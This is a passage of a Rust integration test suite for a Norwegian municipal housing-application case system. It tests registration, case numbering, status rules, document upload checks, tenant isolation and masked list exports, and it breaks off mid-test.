//! Staff side: registration, validation, case numbers, the case page and its actions,
//! documents, permissions and tenant isolation, lists.

use reqwest::StatusCode;
use uuid::Uuid;

use super::{fnr, id_from, post_pairs, register, registration, scalar_i64, version};
use crate::common::TestApp;

#[tokio::test]
async fn registration_creates_a_case_with_household_timeline_and_audit() {
    let app = TestApp::spawn().await;
    let mut c = app.login("levanger.saksbehandler").await;
    let form = c.get("/soknader/ny").await;
    assert_eq!(form.status, StatusCode::OK);
    assert!(form.count("input[name=reasons]") > 5, "the default reasons");
    let nid = fnr("150585", 1);
    let id = register(&mut c, "Kari Hansen", &nid).await;

    let page = c.get(&format!("/soknader/{id}?melding=registrert")).await;
    assert_eq!(page.status, StatusCode::OK);
    let h1 = page.text_of("h1");
    assert!(h1.contains("Kari Hansen"), "{h1}");
    let year = app.today().format("%Y").to_string();
    assert!(h1.contains(&format!("{year}/")), "case number in {h1}");
    assert_eq!(page.text_of("#saksstatus"), "Mottatt");
    assert!(
        page.text.contains(&nid),
        "the case page shows the whole number"
    );
    let household =
        page.text_of("#husstand ~ div table tbody, section[aria-labelledby=husstand] tbody");
    assert!(
        household.contains("Lise Hansen") && household.contains("Besøksbarn"),
        "{household}"
    );
    assert!(page
        .text_of(".bosak-app-timeline")
        .contains("Søknad registrert med saksnummer"));
    assert!(page.text_of(".ds-alert").contains("registrert"));
    assert_eq!(app.audit_count("application.registered").await, 1);
    assert_eq!(app.audit_count("application.viewed").await, 1);

    let members = scalar_i64(
        &app,
        "5037",
        "SELECT count(*) FROM application_members WHERE application_id = $1",
        id,
    )
    .await;
    assert_eq!(members, 2);
    let assigned = scalar_i64(
        &app,
        "5037",
        "SELECT count(*) FROM applications a JOIN users u ON u.id = a.caseworker_id
          WHERE a.id = $1 AND u.username = 'levanger.saksbehandler'",
        id,
    )
    .await;
    assert_eq!(assigned, 1, "the registering caseworker is responsible");
}

#[tokio::test]
async fn validation_errors_keep_what_was_typed() {
    let app = TestApp::spawn().await;
    let mut c = app.login("levanger.saksbehandler").await;
    c.get("/soknader/ny").await;
    let mut fields = registration("Ola Feil", "15058512345");
    fields.retain(|(k, _)| k != "channel" && k != "received_on");
    fields.push(("received_on".into(), "32.13.2026".into()));
    fields.push(("member_relation_2".into(), String::new()));
    fields.push(("member_name_2".into(), "Uten relasjon".into()));
    fields.push(("member_birth_date_2".into(), "01.01.2001".into()));
    let res = post_pairs(&mut c, "/soknader/ny", &fields).await;
    assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(res
        .text_of("#applicant_national_id-err")
        .contains("ikke gyldig"));
    assert!(res.text_of("#channel-err").contains("Velg"));
    assert!(res.text_of("#received_on-err").contains("dd.mm.åååå"));
    assert!(res.text_of(".ds-error-summary").contains("relasjon"));
    // The summary names the household member the message is about.
    assert!(res
        .text_of(".ds-error-summary")
        .contains("Husstandsmedlem 3 (Uten relasjon): Velg hvilken relasjon"));
    assert_eq!(
        res.attr("#applicant_name", "value").as_deref(),
        Some("Ola Feil")
    );
    assert_eq!(
        res.attr("#applicant_national_id", "value").as_deref(),
        Some("15058512345")
    );
    assert_eq!(
        res.attr("#member_name_2", "value").as_deref(),
        Some("Uten relasjon")
    );
    assert!(res.count("input[name=dwelling_types][value=transitional][checked]") == 1);
    assert_eq!(app.audit_count("application.registered").await, 0);
}

#[tokio::test]
async fn concurrent_registrations_get_gap_free_unique_case_numbers() {
    let app = TestApp::spawn().await;
    let mut c = app.login("levanger.saksbehandler").await;
    c.get("/soknader/ny").await;
    let csrf = c.csrf.clone().unwrap();
    let year: i32 = chrono::Datelike::year(&app.today());
    let levanger = app.municipality_id("5037").await;
    let counter = |app: &TestApp| {
        let owner = app.owner.clone();
        async move {
            let mut tx = owner.begin().await.unwrap();
            bosak::seed::with_tenant(&mut tx, levanger).await.unwrap();
            let n: Option<i32> = sqlx::query_scalar(
                "SELECT last_number FROM case_number_counters WHERE municipality_id = $1 AND year = $2",
            )
            .bind(levanger)
            .bind(year)
            .fetch_optional(&mut *tx)
            .await
            .unwrap();
            n.unwrap_or(0)
        }
    };
    let before = counter(&app).await;
    let n = 16;
    let mut set = tokio::task::JoinSet::new();
    for i in 0..n {
        let http = c.http.clone();
        let url = format!("{}/soknader/ny", c.base);
        let mut fields = registration(&format!("Samtidig {i}"), &fnr("010190", i));
        fields.push(("csrf_token".into(), csrf.clone()));
        set.spawn(async move { http.post(url).form(&fields).send().await.unwrap().status() });
    }
    // One registration that fails validation must not use a number.
    let mut bad = registration("Feil", "1");
    bad.push(("csrf_token".into(), csrf.clone()));
    let bad_status = c
        .http
        .post(format!("{}/soknader/ny", c.base))
        .form(&bad)
        .send()
        .await
        .unwrap()
        .status();
    assert_eq!(bad_status, StatusCode::UNPROCESSABLE_ENTITY);
    while let Some(status) = set.join_next().await {
        assert_eq!(status.unwrap(), StatusCode::SEE_OTHER);
    }
    let mut tx = app.owner.begin().await.unwrap();
    bosak::seed::with_tenant(&mut tx, levanger).await.unwrap();
    let mut seqs: Vec<i32> = sqlx::query_scalar(
        "SELECT case_seq FROM applications WHERE municipality_id = $1 AND case_year = $2 AND case_seq > $3",
    )
    .bind(levanger)
    .bind(year)
    .bind(before)
    .fetch_all(&mut *tx)
    .await
    .unwrap();
    tx.commit().await.unwrap();
    seqs.sort();
    let expected: Vec<i32> = (before + 1..=before + n as i32).collect();
    assert_eq!(seqs, expected, "no duplicates, no gaps");
    assert_eq!(counter(&app).await, before + n as i32);
}

#[tokio::test]
async fn an_open_application_for_the_same_person_is_flagged() {
    let app = TestApp::spawn().await;
    let mut c = app.login("levanger.saksbehandler").await;
    let nid = fnr("121280", 3);
    let first = register(&mut c, "Dobbel Søker", &nid).await;
    c.get("/soknader/ny").await;
    let again = post_pairs(&mut c, "/soknader/ny", &registration("Dobbel Søker", &nid)).await;
    assert_eq!(again.status, StatusCode::CONFLICT);
    assert!(again.text_of("#duplikat").contains("åpen søknad"));
    assert_eq!(
        again.attr("#duplikat a", "href").as_deref(),
        Some(format!("/soknader/{first}").as_str())
    );
    assert_eq!(
        again.attr("#applicant_name", "value").as_deref(),
        Some("Dobbel Søker")
    );
    let mut confirmed = registration("Dobbel Søker", &nid);
    confirmed.push(("confirm_duplicate".into(), "1".into()));
    let res = post_pairs(&mut c, "/soknader/ny", &confirmed).await;
    assert_eq!(res.status, StatusCode::SEE_OTHER);
    let second = id_from(res.location.as_deref().unwrap());
    // One person, two applications.
    let people = scalar_i64(
        &app,
        "5037",
        "SELECT count(*) FROM applications WHERE applicant_id = (SELECT applicant_id FROM applications WHERE id = $1)",
        second,
    )
    .await;
    assert_eq!(people, 2, "one person record shared by both applications");
    let page = c.get(&format!("/soknader/{second}")).await;
    assert!(page.text.contains("Søkeren har også en annen åpen sak"));
}

#[tokio::test]
async fn status_changes_follow_the_machine_and_stale_edits_conflict() {
    let app = TestApp::spawn().await;
    let mut c = app.login("levanger.saksbehandler").await;
    let id = register(&mut c, "Status Søker", &fnr("020275", 4)).await;
    let path = format!("/soknader/{id}/status");
    let page = c.get(&format!("/soknader/{id}")).await;
    let options = page.texts("#new_status option");
    assert_eq!(
        options,
        vec!["Under kartlegging", "Trukket", "Avsluttet uten vedtak"]
    );
    let v = version(&app, id).await;
    let skip = c
        .post(&path, &[("new_status", "approved"), ("version", &v)])
        .await;
    assert_eq!(skip.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(skip.text_of("#new_status-err").contains("vedtak sendes"));
    // Withdrawal records who said so, when and how.
    let undated = c
        .post(
            &path,
            &[
                ("new_status", "withdrawn"),
                ("status_reason", "Har fått bolig selv"),
                ("withdrawn_by", "Søkeren selv"),
                ("withdrawn_on", &app.day(1)),
                ("version", &v),
            ],
        )
        .await;
    assert_eq!(undated.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(undated.text_of("#withdrawn_on-err").contains("frem i tid"));
    assert!(undated.text_of("#withdrawn_how-err").contains("Velg"));
    assert_eq!(
        undated.attr("#withdrawn_by", "value").as_deref(),
        Some("Søkeren selv"),
        "input kept"
    );
    let no_reason = c
        .post(
            &path,
            &[
                ("new_status", "withdrawn"),
                ("status_reason", " "),
                ("version", &v),
            ],
        )
        .await;
    assert_eq!(no_reason.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(no_reason
        .text_of("#status_reason-err")
        .contains("begrunnelse"));

    let ok = c
        .post(
            &path,
            &[("new_status", "under_assessment"), ("version", &v)],
        )
        .await;
    assert_eq!(ok.status, StatusCode::SEE_OTHER);
    // The same (now stale) version again: 409, input kept, nothing saved.
    let stale = c
        .post(
            &path,
            &[
                ("new_status", "withdrawn"),
                ("status_reason", "Flyttet ut av kommunen"),
                ("version", &v),
            ],
        )
        .await;
    assert_eq!(stale.status, StatusCode::CONFLICT);
    assert!(stale
        .text_of(".ds-error-summary")
        .contains("endret av noen andre"));
    assert_eq!(stale.text_of("#status_reason"), "Flyttet ut av kommunen");
    let page = c.get(&format!("/soknader/{id}")).await;
    assert_eq!(page.text_of("#saksstatus"), "Under kartlegging");
    assert!(page
        .text_of(".bosak-app-timeline")
        .contains("Status endret fra «Mottatt» til «Under kartlegging»"));
    assert_eq!(app.audit_count("application.status_changed").await, 1);
}

/// fvl. § 23: a case is granted, partly granted or refused only by sending a decision.
/// The status form never offers those, and the server refuses them whatever is posted.
#[tokio::test]
async fn no_decision_outcome_without_a_decision_and_withdrawal_says_who_when_how() {
    let app = TestApp::spawn().await;
    let m = app.municipality_id("5037").await;
    let mut tx = app.owner.begin().await.unwrap();
    bosak::seed::with_tenant(&mut tx, m).await.unwrap();
    let (id, version): (uuid::Uuid, i32) = sqlx::query_as(
        "SELECT id, version FROM applications WHERE municipality_id = $1 AND status = 'ready_for_meeting'
          ORDER BY case_number LIMIT 1",
    )
    .bind(m)
    .fetch_one(&mut *tx)
    .await
    .unwrap();
    tx.commit().await.unwrap();
    let mut c = app.login("levanger.saksbehandler").await;
    let page = c.get(&format!("/soknader/{id}")).await;
    let options = page.texts("#new_status option");
    for outcome in ["Innvilget", "Delvis innvilget", "Avslått"] {
        assert!(!options.iter().any(|o| o == outcome), "{options:?}");
    }
    let path = format!("/soknader/{id}/status");
    let v = version.to_string();
    for outcome in ["approved", "partly_approved", "rejected"] {
        let res = c
            .post(&path, &[("new_status", outcome), ("version", &v)])
            .await;
        assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY, "{outcome}");
        assert!(res.text_of("#new_status-err").contains("vedtak sendes"));
        // Also with a stale version: the reason is the outcome, not the version.
        let res = c
            .post(&path, &[("new_status", outcome), ("version", "0")])
            .await;
        assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY, "{outcome}");
    }
    let page = c.get(&format!("/soknader/{id}")).await;
    assert_eq!(page.text_of("#saksstatus"), "Klar for tildelingsmøte");

    let ok = c
        .post(
            &path,
            &[
                ("new_status", "withdrawn"),
                ("status_reason", "Har fått bolig selv."),
                ("withdrawn_by", "Søkerens verge"),
                ("withdrawn_on", &app.day(-2)),
                ("withdrawn_how", "phone"),
                ("version", &v),
            ],
        )
        .await;
    assert_eq!(
        ok.status,
        StatusCode::SEE_OTHER,
        "{}",
        ok.text_of(".ds-error-summary")
    );
    let page = c.get(&format!("/soknader/{id}")).await;
    assert_eq!(page.text_of("#saksstatus"), "Trukket");
    let timeline = page.text_of(".bosak-app-timeline");
    assert!(
        timeline.contains(&format!(
            "Trukket etter melding fra Søkerens verge {} (telefon)",
            app.day(-2)
        )),
        "{timeline}"
    );
}

#[tokio::test]
async fn assessment_versions_notes_and_contacts_land_on_the_timeline() {
    let app = TestApp::spawn().await;
    let mut c = app.login("levanger.saksbehandler").await;
    let id = register(&mut c, "Kartlagt Søker", &fnr("050560", 5)).await;
    c.get(&format!("/soknader/{id}")).await;
    let path = format!("/soknader/{id}/kartlegging");
    let empty = c
        .post(&path, &[("based_on", "0"), ("conclusion", "")])
        .await;
    assert_eq!(empty.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(empty.text_of("#conclusion-err").contains("må fylles ut"));
    let first = c
        .post(
            &path,
            &[
                ("based_on", "0"),
                ("housing_history", "Leid privat i ti år."),
                ("independence_level", "some_support"),
                ("conclusion", "Fyller vilkårene."),
            ],
        )
        .await;
    assert_eq!(first.status, StatusCode::SEE_OTHER);
    let second = c
        .post(
            &path,
            &[
                ("based_on", "1"),
                ("conclusion", "Oppdatert etter hjemmebesøk."),
            ],
        )
        .await;
    assert_eq!(second.status, StatusCode::SEE_OTHER);
    // Based on an old version: refused, text kept.
    let stale = c
        .post(
            &path,
            &[("based_on", "1"), ("conclusion", "Min gamle tekst")],
        )
        .await;
    assert_eq!(stale.status, StatusCode::CONFLICT);
    assert_eq!(stale.text_of("#conclusion"), "Min gamle tekst");
    assert_eq!(
        stale.attr("input[name=based_on]", "value").as_deref(),
        Some("2")
    );

    let note = format!("/soknader/{id}/journal");
    let bad_contact = c
        .post(&note, &[("kind", "contact"), ("body", "Ringte.")])
        .await;
    assert_eq!(bad_contact.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(bad_contact
        .text_of("#contact_with-err")
        .contains("må fylles ut"));
    assert_eq!(bad_contact.text_of("#body"), "Ringte.");
    let ok = c
        .post(
            &note,
            &[
                ("kind", "contact"),
                ("contact_kind", "phone"),
                ("contact_with", "NAV Levanger"),
                ("body", "Avklarte inntekt."),
            ],
        )
        .await;
    assert_eq!(ok.status, StatusCode::SEE_OTHER);
    let ok = c
        .post(
            &note,
            &[("kind", "note"), ("body", "Søker møtte til samtale.")],
        )
        .await;
    assert_eq!(ok.status, StatusCode::SEE_OTHER);

    let page = c.get(&format!("/soknader/{id}")).await;
    assert!(page.text_of("#gjeldende-kartlegging").contains("Versjon 2"));
    assert!(page
        .text_of("#gjeldende-kartlegging")
        .contains("Oppdatert etter hjemmebesøk."));
    assert!(
        page.text_of("details").contains("Fyller vilkårene."),
        "earlier versions kept"
    );
    let timeline = page.texts(".bosak-app-timeline > li");
    assert!(timeline[0].contains("Notat") && timeline[0].contains("Søker møtte til samtale."));
    assert!(timeline[1].contains("Telefon med NAV Levanger"));
    assert!(timeline
        .iter()
        .any(|t| t.contains("Kartlegging lagret (versjon 2)")));
    assert!(timeline.last().unwrap().contains("Søknad registrert"));
}

fn multipart(csrf: &str, title: &str, name: &str, bytes: Vec<u8>) -> reqwest::multipart::Form {
    reqwest::multipart::Form::new()
        .text("csrf_token", csrf.to_owned())
        .text("title", title.to_owned())
        .part(
            "file",
            reqwest::multipart::Part::bytes(bytes).file_name(name.to_owned()),
        )
}

#[tokio::test]
async fn documents_are_checked_by_content_and_size_and_downloaded_only_by_those_who_may() {
    let app = TestApp::spawn().await;
    let mut c = app.login("levanger.saksbehandler").await;
    let id = register(&mut c, "Dokument Søker", &fnr("070788", 6)).await;
    c.get(&format!("/soknader/{id}")).await;
    let csrf = c.csrf.clone().unwrap();
    let url = format!("{}/soknader/{id}/dokumenter", c.base);
    let send = |form: reqwest::multipart::Form| {
        let http = c.http.clone();
        let url = url.clone();
        async move { http.post(url).multipart(form).send().await.unwrap() }
    };
    let pdf = b"%PDF-1.4\n%test\n%%EOF\n".to_vec();
    let res = send(multipart(&csrf, "Lønnsslipp", "lønn.pdf", pdf.clone())).await;
    assert_eq!(res.status(), StatusCode::SEE_OTHER);

    // An executable renamed to .pdf is refused.
    let res = send(multipart(
        &csrf,
        "Virus",
        "faktura.pdf",
        b"MZ\x90\x00\x03 evil".to_vec(),
    ))
    .await;
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body = res.text().await.unwrap();
    assert!(body.contains("Filtypen er ikke tillatt"));
    // Over 20 MB (but under the request limit): refused with a message.
    let mut big = b"%PDF-1.4\n".to_vec();
    big.resize(20 * 1024 * 1024 + 1, b'a');
    let res = send(multipart(&csrf, "Stor", "stor.pdf", big)).await;
    assert_eq!(res.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert!(res.text().await.unwrap().contains("større enn 20 MB"));
    // Without the CSRF token: refused.
    let res = c
        .http
        .post(&url)
        .multipart(reqwest::multipart::Form::new().part(
            "file",
            reqwest::multipart::Part::bytes(pdf.clone()).file_name("a.pdf"),
        ))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::FORBIDDEN);

    let page = c.get(&format!("/soknader/{id}")).await;
    let href = page
        .attr(
            "#dokumenter ~ ul a, section[aria-labelledby=dokumenter] ul a",
            "href",
        )
        .unwrap();
    assert_eq!(page.count("section[aria-labelledby=dokumenter] ul li"), 1);
    assert!(page
        .text_of(".bosak-app-timeline")
        .contains("Dokument lagt til: Lønnsslipp"));
    let res = c
        .http
        .get(format!("{}{href}", c.base))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), StatusCode::OK);
    assert_eq!(res.headers()["content-type"], "application/pdf");
    let disp = res.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(disp.starts_with("attachment;"), "{disp}");
    assert_eq!(res.bytes().await.unwrap().to_vec(), pdf);

    // Verdal's caseworker and the auditor cannot fetch it.
    let mut verdal = app.login("verdal.saksbehandler").await;
    assert_eq!(verdal.get(&href).await.status, StatusCode::NOT_FOUND);
    // The auditor's roles cover no case contents: refused before any lookup (auth::policy).
    let mut auditor = app.login("revisor").await;
    assert_eq!(auditor.get(&href).await.status, StatusCode::FORBIDDEN);
    assert_eq!(app.audit_count("application.document_downloaded").await, 1);
}

#[tokio::test]
async fn other_municipalities_and_roles_see_nothing() {
    let app = TestApp::spawn().await;
    let mut c = app.login("levanger.saksbehandler").await;
    let id = register(&mut c, "Privat Person", &fnr("090995", 7)).await;
    let v = version(&app, id).await;

    let mut verdal = app.login("verdal.saksbehandler").await;
    assert_eq!(
        verdal.get(&format!("/soknader/{id}")).await.status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        verdal
            .get(&format!("/soknader/{id}/forelopig-svar"))
            .await
            .status,
        StatusCode::NOT_FOUND
    );
    for (path, fields) in [
        (
            "status",
            vec![("new_status", "under_assessment"), ("version", v.as_str())],
        ),
        ("journal", vec![("kind", "note"), ("body", "Innbrudd")]),
        ("kartlegging", vec![("based_on", "0"), ("conclusion", "x")]),
        (
            "tildeling",
            vec![("caseworker", "meg"), ("version", v.as_str())],
        ),
        (
            "husstand",
            vec![
                ("member_name_0", "X"),
                ("member_birth_date_0", "01.01.2000"),
                ("member_relation_0", "child"),
                ("version", v.as_str()),
            ],
        ),
        (
            "forelopig-svar",
            vec![("reason", "x"), ("version", v.as_str())],
        ),
    ] {
        let res = verdal
            .post(&format!("/soknader/{id}/{path}"), &fields)
            .await;
        assert_eq!(res.status, StatusCode::NOT_FOUND, "POST {path}");
    }
    let list = verdal.get("/soknader?q=Privat").await;
    assert_eq!(list.status, StatusCode::OK);
    assert!(!list.text.contains("Privat Person"));
    // The office caseworker serves Levanger: sees it. Stjørdal's does not.
    let mut office = app.login("kontor.saksbehandler").await;
    assert_eq!(
        office.get(&format!("/soknader/{id}")).await.status,
        StatusCode::OK
    );
    let mut stjordal = app.login("stjordal.saksbehandler").await;
    assert_eq!(
        stjordal.get(&format!("/soknader/{id}")).await.status,
        StatusCode::NOT_FOUND
    );
    // Auditors read the audit log, not cases.
    let mut auditor = app.login("revisor").await;
    assert_eq!(auditor.get("/soknader").await.status, StatusCode::FORBIDDEN);
    assert_eq!(
        auditor.get(&format!("/soknader/{id}")).await.status,
        StatusCode::FORBIDDEN
    );
    // A malformed id is a 404, never a 500.
    assert_eq!(
        c.get("/soknader/ikke-en-id").await.status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        scalar_i64(&app, "5037", "SELECT count(*) FROM application_events WHERE application_id = $1 AND summary LIKE '%Innbrudd%'", id).await,
        0
    );

    // Row level security: a Verdal-scoped transaction sees no Levanger application.
    let verdal_id = app.municipality_id("5038").await;
    let mut tx = bosak::db::scoped_tx(&app.state.pool, &[verdal_id])
        .await
        .unwrap();
    let n: i64 = sqlx::query_scalar("SELECT count(*) FROM applications WHERE id = $1")
        .bind(id)
        .fetch_one(&mut *tx)
        .await
        .unwrap();
    assert_eq!(n, 0);
    let people: i64 = sqlx::query_scalar("SELECT count(*) FROM people WHERE municipality_id <> $1")
        .bind(verdal_id)
        .fetch_one(&mut *tx)
        .await
        .unwrap();
    assert_eq!(people, 0);
}

#[tokio::test]
async fn team_lead_reassigns_caseworkers_only_take_free_cases() {
    let app = TestApp::spawn().await;
    let mut c = app.login("levanger.saksbehandler").await;
    let id = register(&mut c, "Tildelt Søker", &fnr("111111", 8)).await;
    let office_user = app.user_id("kontor.saksbehandler").await.to_string();
    let v = version(&app, id).await;
    // A caseworker cannot hand their case to somebody else.
    let res = c
        .post(
            &format!("/soknader/{id}/tildeling"),
            &[("caseworker", &office_user), ("version", &v)],
        )
        .await;
    assert_eq!(res.status, StatusCode::FORBIDDEN);
    let mut team = app.login("levanger.team").await;
    let page = team.get(&format!("/soknader/{id}")).await;
    assert!(page
        .texts("#caseworker option")
        .contains(&"Ingrid Haugen".to_string()));
    let res = team
        .post(
            &format!("/soknader/{id}/tildeling"),
            &[("caseworker", &office_user), ("version", &v)],
        )
        .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER);
    let mut office = app.login("kontor.saksbehandler").await;
    let mine = office.get("/soknader/mine").await;
    assert!(mine.text.contains("Tildelt Søker"));
    assert!(!c.get("/soknader/mine").await.text.contains("Tildelt Søker"));
    let page = office.get(&format!("/soknader/{id}")).await;
    assert!(page
        .text_of(".bosak-app-timeline")
        .contains("Saken er tildelt Ingrid Haugen"));
}

#[tokio::test]
async fn interim_reply_is_due_after_a_month_and_its_dispatch_is_recorded() {
    let app = TestApp::spawn().await;
    let mut c = app.login("levanger.saksbehandler").await;
    c.get("/soknader/ny").await;
    let old = (app.today() - chrono::Duration::days(40))
        .format("%d.%m.%Y")
        .to_string();
    let mut fields = registration("Venter Lenge", &fnr("121212", 9));
    fields.retain(|(k, _)| k != "received_on");
    fields.push(("received_on".into(), old));
    let res = post_pairs(&mut c, "/soknader/ny", &fields).await;
    assert_eq!(res.status, StatusCode::SEE_OTHER);
    let id = id_from(res.location.as_deref().unwrap());

    let page = c.get(&format!("/soknader/{id}")).await;
    assert!(page.text_of("#frist").contains("Foreløpig svar er forfalt"));
    let mine = c.get("/soknader/mine").await;
    assert!(mine.text_of("tr").contains("Venter Lenge"));
    assert!(mine.text.contains("forfalt"));
    let overdue = c.get("/soknader?forfalt=1&q=Venter").await;
    assert!(overdue.text_of("tbody").contains("Venter Lenge"));

    let path = format!("/soknader/{id}/forelopig-svar");
    let letter = c.get(&path).await;
    assert_eq!(letter.status, StatusCode::OK);
    let v = version(&app, id).await;
    let bad = c
        .post(
            &path,
            &[
                ("reason", ""),
                ("expected_on", "01.01.2000"),
                ("version", &v),
            ],
        )
        .await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(bad.text_of("#reason-err").contains("må fylles ut"));
    assert!(bad.text_of("#expected_on-err").contains("passert"));
    let expected = (app.today() + chrono::Duration::days(30))
        .format("%d.%m.%Y")
        .to_string();
    let ok = c
        .post(
            &path,
            &[
                ("reason", "Vi venter på opplysninger fra NAV."),
                ("expected_on", &expected),
                ("version", &v),
            ],
        )
        .await;
    assert_eq!(ok.status, StatusCode::SEE_OTHER);
    let letter = c.get(&path).await;
    let text = letter.text_of("#brev");
    assert!(text.contains("Foreløpig svar på søknaden din"));
    assert!(text.contains("Vi venter på opplysninger fra NAV."));
    assert!(text.contains(&expected));
    assert!(text.contains("Venter Lenge"));
    let v = version(&app, id).await;
    let sent = c.post(&format!("{path}/sendt"), &[("version", &v)]).await;
    assert_eq!(sent.status, StatusCode::SEE_OTHER);
    let page = c.get(&format!("/soknader/{id}")).await;
    assert!(page.text_of("#frist").contains("Foreløpig svar sendt"));
    assert!(page
        .text_of(".bosak-app-timeline")
        .contains("Foreløpig svar sendt til søker"));
    let again = c.post(&format!("{path}/sendt"), &[("version", &v)]).await;
    assert_eq!(again.status, StatusCode::CONFLICT, "recorded once");
    assert!(!c
        .get("/soknader?forfalt=1&q=Venter")
        .await
        .text_of("tbody")
        .contains("Venter Lenge"));

    // The sent letter is archived (letters module: HTML and PDF) and listed on the case.
    let page = c.get(&path).await;
    let links = page.texts("#sendte-svar li");
    assert_eq!(links.len(), 1, "{links:?}");
    let archived = page.attr("#sendte-svar a", "href").unwrap();
    let letter = c.get(&archived).await;
    assert!(letter.text.contains("Vi venter på opplysninger fra NAV."));
    let pdf = c.get(&format!("{archived}.pdf")).await;
    assert_eq!(pdf.headers["content-type"], "application/pdf");

    // The promised date passes without a decision: a new interim reply is due.
    app.set_today(app.today() + chrono::Duration::days(31));
    let reopened = bosak::applications::interim::reopen_due(&app.state.pool, app.today())
        .await
        .unwrap();
    assert!(reopened >= 1);
    let page = c.get(&path).await;
    assert_eq!(page.count("#nytt-svar"), 1, "the new one is shown as due");
    assert!(
        c.get("/soknader?forfalt=1&q=Venter")
            .await
            .text_of("tbody")
            .contains("Venter Lenge"),
        "overdue again in the lists"
    );
    let v = version(&app, id).await;
    let later = (app.today() + chrono::Duration::days(21))
        .format("%d.%m.%Y")
        .to_string();
    let ok = c
        .post(
            &path,
            &[
                ("reason", "Vi venter fortsatt på NAV."),
                ("expected_on", &later),
                ("version", &v),
            ],
        )
        .await;
    assert_eq!(
        ok.status,
        StatusCode::SEE_OTHER,
        "{}",
        ok.text_of(".ds-error-summary")
    );
    let draft = c.get(&path).await;
    assert!(draft
        .text_of("#brev")
        .contains("tidligere sendt deg foreløpig svar"));
    let v = version(&app, id).await;
    let sent = c.post(&format!("{path}/sendt"), &[("version", &v)]).await;
    assert_eq!(sent.status, StatusCode::SEE_OTHER);
    let page = c.get(&path).await;
    assert_eq!(
        page.texts("#sendte-svar li").len(),
        2,
        "two interim replies"
    );
    let case = c.get(&format!("/soknader/{id}")).await;
    assert_eq!(case.count("#sendte-brev tbody tr"), 2);
    // The first letter still says what it said.
    let first = c.get(&archived).await;
    assert!(first.text.contains("Vi venter på opplysninger fra NAV."));
    assert!(!first.text.contains("fortsatt"));
}

#[tokio::test]
async fn lists_mask_numbers_filter_search_page_and_export() {
    let app = TestApp::spawn().await;
    let mut c = app.login("levanger.saksbehandler").await;
    let nid = fnr("230391", 10);
    let id = register(&mut c, "Liste Søker", &nid).await;

    let list = c.get("/soknader").await;
    assert_eq!(list.status, StatusCode::OK);
    assert_eq!(list.count("tbody tr"), 50, "a page of 50 of the demo's 100");
    assert!(list
        .attr("a[href^='/soknader?']", "href")
        .unwrap()
        .contains("etter="));
    assert!(
        !list.text.contains(&nid),
        "lists never show the whole number"
    );
    let mine = c.get("/soknader?q=Liste+S%C3%B8ker").await;
    let row = mine.text_of("tbody tr");
    assert!(
        row.contains("Liste Søker") && row.contains(&format!("{}*****", &nid[..6])),
        "{row}"
    );
    assert!(row.contains("3"), "household of three: {row}");

    // Next page continues where the first ended, without repeats.
    let next = list.attr("a[href*='etter=']", "href").unwrap();
    let page2 = c.get(&next).await;
    let first_ids = list.texts("tbody tr td:first-child");
    for n in page2.texts("tbody tr td:first-child") {
        assert!(!first_ids.contains(&n), "{n} repeated");
    }

    let filtered = c
        .get("/soknader?status=received&behov=ground_floor&saksbehandler=meg")
        .await;
    assert!(filtered.text_of("tbody").contains("Liste Søker"));
    for s in filtered.texts("tbody .ds-tag:first-of-type") {
        assert!(!s.contains("Innvilget"));
    }
    let by_number = c
        .get(&format!("/soknader?q={}", urlencode_case(&app, id).await))
        .await;
    assert_eq!(by_number.count("tbody tr"), 1);
    // An identity number in the search box is refused (it would sit in the URL).
    let refused = c.get(&format!("/soknader?q={nid}")).await;
    assert!(refused.text_of("#q-err").contains("fødselsnummer"));
    assert!(!refused.text.contains(&nid[6..]), "not echoed back");

    let found = c.post("/soknader/sok", &[("fnr", &nid)]).await;
    assert_eq!(found.status, StatusCode::OK);
    assert_eq!(found.count("tbody tr"), 1);
    assert!(found.text_of("tbody").contains("Liste Søker"));
    let bad = c.post("/soknader/sok", &[("fnr", "123")]).await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(bad.text_of("#fnr-err").contains("11 siffer"));
    // A household member's number finds the case too.
    assert!(app.audit_count("application.searched_by_national_id").await >= 1);

    let csv = c
        .http
        .get(format!("{}/soknader/eksport.csv?q=Liste", c.base))
        .send()
        .await
        .unwrap();
    assert_eq!(csv.status(), StatusCode::OK);
    assert!(csv.headers()["content-type"]
        .to_str()
        .unwrap()
        .starts_with("text/csv"));
    let body = csv.text().await.unwrap();
    assert!(body.contains("Saksnummer;Kommune;Mottatt;Søker"));
    assert!(body.contains("Liste Søker") && body.contains(&format!("{}*****", &nid[..6])));
    assert!(!body.contains(&nid));
    assert_eq!(app.audit_count("application.list_exported").await, 1);
}

async fn urlencode_case(app: &TestApp, id: Uuid) -> String {
    let n: String = app
        .tenant("5037")
        .await
        .scalar(
            "SELECT case_number FROM applications WHERE id = $1",
            &[id.into()],
        )
        .await;
    n.replace('/', "%2F")
}

#[tokio::test]
async fn household_members_are_added_and_removed() {
    let app = TestApp::spawn().await;
    let mut c = app.login("levanger.saksbehandler").await;
    let id = register(&mut c, "Husstand Søker", &fnr("140270", 11)).await;
    c.get(&format!("/soknader/{id}")).await;
    let v = version(&app, id).await;
    let path = format!("/soknader/{id}/husstand");
    let bad = c
        .post(
            &path,
            &[
                ("member_name_0", "Ny Person"),
                ("member_relation_0", "spouse"),
                ("version", &v),
            ],
        )
        .await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(
        bad.attr("#member_name_0", "value").as_deref(),
        Some("Ny Person")
    );
    let spouse = fnr("150372", 12);
    let ok = c
